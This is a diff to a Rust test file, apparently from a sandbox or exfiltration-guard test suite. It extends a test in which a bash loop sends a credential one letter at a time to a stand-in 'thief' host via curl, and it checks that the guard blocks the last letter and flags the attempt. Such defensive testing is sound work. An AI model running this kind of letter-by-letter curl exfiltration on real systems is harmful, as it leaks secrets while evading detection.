@@ -115,15 +115,17 @@ lab_tests! {
     }
 
     fn letters_one_by_one_stop_with_the_last_one(lab) {
-        let (thief, credential) = (thief(), Credential::new());
-        let letters: Vec<&str> = credential.text().split_inclusive(|_: char| true).collect();
-        let letters = letters.join(" ");
-        let script = format!("for l in {letters}; do curl -sS \"$URL/x?d=$l\"; done; curl -sS $URL/fine");
-        let outcome = confined(lab, Identity::Own).run(&bash(&script));
-        let sent = String::from_utf8_lossy(&thief.take()).into_owned();
-        assert_eq!(sent.matches("GET /x").count(), credential.text().len() - 1, "{sent}");
-        assert!(sent.contains("GET /fine"), "the rest goes on: {sent} {outcome}");
-        assert_told(&outcome, "letters");
+        for credential in [Credential::new(), Credential::with_the_last_letter_twice()] {
+            let thief = thief();
+            let letters: Vec<&str> = credential.text().split_inclusive(|_: char| true).collect();
+            let letters = letters.join(" ");
+            let script = format!("for l in {letters}; do curl -sS \"$URL/x?d=$l\"; done; curl -sS $URL/fine");
+            let outcome = confined(lab, Identity::Own).run(&bash(&script));
+            let sent = String::from_utf8_lossy(&thief.take()).into_owned();
+            assert_eq!(sent.matches("GET /x").count(), credential.text().len() - 1, "{sent}");
+            assert!(sent.contains("GET /fine"), "the rest goes on: {sent} {outcome}");
+            assert_told(&outcome, "letters");
+        }
     }
 
     fn pieces_of_requests_that_never_end_are_remembered(lab) {
